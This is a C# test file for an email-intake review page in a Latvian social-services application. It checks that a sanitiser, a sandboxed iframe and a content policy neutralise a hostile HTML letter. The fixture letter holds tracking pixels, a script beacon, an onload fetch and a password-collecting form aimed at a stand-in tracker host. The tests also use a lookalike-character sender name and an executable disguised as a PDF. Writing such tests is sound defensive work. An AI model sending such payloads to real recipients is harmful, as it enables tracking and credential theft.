using System.Net;
using System.Text.RegularExpressions;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using SocialWorkflows.Casework.Intake;
using SocialWorkflows.Functions.Demo;
using SocialWorkflows.Functions.Workplace.Messages;
using SocialWorkflows.Mail;
using SocialWorkflows.Mail.Html;
using SocialWorkflows.Tests.Support;

namespace SocialWorkflows.Tests.Workplace;

/// <summary>A hostile letter before a real browser, and on the review page.</summary>
public sealed partial class MessageHtmlTests
{
    private const string Hostile = """
        <html><head><base href="http://izsekotajs.example/"><meta http-equiv="refresh" content="1;url=http://izsekotajs.example/refresh"><link rel="stylesheet" href="http://izsekotajs.example/a.css">
        <style>@import "http://izsekotajs.example/b.css"; body { background: url(http://izsekotajs.example/c.png) }</style></head>
        <body background="http://izsekotajs.example/d.png" onload="fetch('http://izsekotajs.example/e')"><p>Labdien, lūdzu palīdzību</p>
        <img src="http://izsekotajs.example/pixel.gif"><img srcset="http://izsekotajs.example/2x.gif 2x" src="x"><video poster="http://izsekotajs.example/f.png" autoplay></video>
        <form action="http://izsekotajs.example/form"><input name="parole"><button>Turpināt</button></form><iframe src="http://izsekotajs.example/frame"></iframe>
        <object data="http://izsekotajs.example/object"></object><svg><image href="http://izsekotajs.example/g.svg"/></svg><script>new Image().src='http://izsekotajs.example/h'</script>
        <div style="background-image:url(http://izsekotajs.example/i.png)">teksts</div><a href="http://izsekotajs.example/link" ping="http://izsekotajs.example/ping">banka.lv</a></body></html>
        """;

    [Fact]
    public async Task B26_HostileLetterInABrowser_FetchesNothing()
    {
        Assert.SkipWhen(LoopbackBrowser.Chromium is null, "Chromium is not installed (Debian package chromium).");
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await playwright.Chromium.LaunchAsync(new() { ExecutablePath = LoopbackBrowser.Chromium, Args = ["--no-sandbox"] });

        (await RequestsAsync(browser, Hostile)).ShouldBeGreaterThan(3, "as sent, it does reach out");
        (await RequestsAsync(browser, HtmlSanitizer.Sanitise(Hostile).Html)).ShouldBe(0);
    }

    [Fact]
    public async Task B26_ReviewPage_ShowsTheCleanLetterInASandbox()
    {
        await using var house = await WayHouse.StartAsync(configure: services => services.AddSingleton<IDemoCalendar>(new NoCalendar()));
        house.Deliver(Residents.Letter("html", DemoFolder.Beginning) with { Html = Hostile, From = new MailAddress("Sоciālais dienests", "a@uzbrucejs.example") });
        await house.SettleAsync();
        var row = (await house.Intake.ListAsync("smiltene", Dispositions.Review, CancellationToken.None)).Single();
        using var client = await SignedInAsync(house);

        var page = await client.GetStringAsync($"/review/{row.IntakeId}");
        var letter = await client.GetAsync($"/review/{row.IntakeId}/html");

        page.ShouldContain($"<iframe class=\"mail\" sandbox");
        page.ShouldContain("dažādu rakstību burti");
        page.ShouldContain("attēli");
        page.ShouldNotContain("izsekotajs.example/pixel");
        letter.Headers.GetValues("Content-Security-Policy").ShouldBe([MessageHtmlEndpoint.Policy]);
        var html = await letter.Content.ReadAsStringAsync();
        html.ShouldContain("Labdien, lūdzu palīdzību");
        html.ShouldContain("banka.lv [http://izsekotajs.example/link]");
        html.ShouldNotContain("<img");
    }

    [Fact]
    public async Task B58_BlockedAttachment_IsListedAndNotHandedOut()
    {
        await using var house = await WayHouse.StartAsync(configure: services => services.AddSingleton<IDemoCalendar>(new NoCalendar()));
        house.Deliver(Residents.Letter("exe", DemoFolder.Beginning) with
        {
            Attachments = [new OutgoingAttachment("rēķins.pdf", "application/pdf", (byte[])[(byte)'M', (byte)'Z', .. new byte[100]]), new OutgoingAttachment("labs.txt", "text/plain", "labs"u8.ToArray())],
        });
        await house.SettleAsync();
        var row = (await house.Intake.ListAsync("smiltene", Dispositions.Review, CancellationToken.None)).Single();
        using var client = await SignedInAsync(house);

        (await client.GetStringAsync($"/review/{row.IntakeId}")).ShouldContain("Programma. Nav atverama.");
        (await client.GetAsync($"/review/{row.IntakeId}/attachments/0")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        (await client.GetStringAsync($"/review/{row.IntakeId}/attachments/1")).ShouldBe("labs");
    }

    private static async Task<int> RequestsAsync(IBrowser browser, string html)
    {
        var page = await browser.NewPageAsync();
        var requests = 0;
        await page.RouteAsync("**/*", route =>
        {
            Interlocked.Increment(ref requests);
            return route.FulfillAsync(new() { Status = 200, Body = "" });
        });
        await page.SetContentAsync(html, new() { WaitUntil = WaitUntilState.Load });
        await page.CloseAsync();
        return requests;
    }

    private static async Task<HttpClient> SignedInAsync(WayHouse house)
    {
        var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false, CookieContainer = new CookieContainer() }) { BaseAddress = house.Address };
        var page = await client.GetAsync("/sign-in");
        page.StatusCode.ShouldBe(HttpStatusCode.OK);
        var token = FormToken().Matches(await page.Content.ReadAsStringAsync())[^1].Groups["hit"].Value;
        var answer = await client.PostAsync("/sign-in", new FormUrlEncodedContent([new("person", "sm-darbiniece"), new("__RequestVerificationToken", token)]));
        answer.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        return client;
    }

    /// <summary>The pages of a demo show a calendar; nobody turns this one.</summary>
    private sealed class NoCalendar : IDemoCalendar
    {
        public DateTimeOffset Now => DemoFolder.Beginning;

        public Task NextWorkingDayAsync(CancellationToken cancellation) => Task.CompletedTask;
    }

    [GeneratedRegex("""name="__RequestVerificationToken"[^>]*value="(?<hit>[^"]+)""", RegexOptions.None, 1000)]
    private static partial Regex FormToken();
}
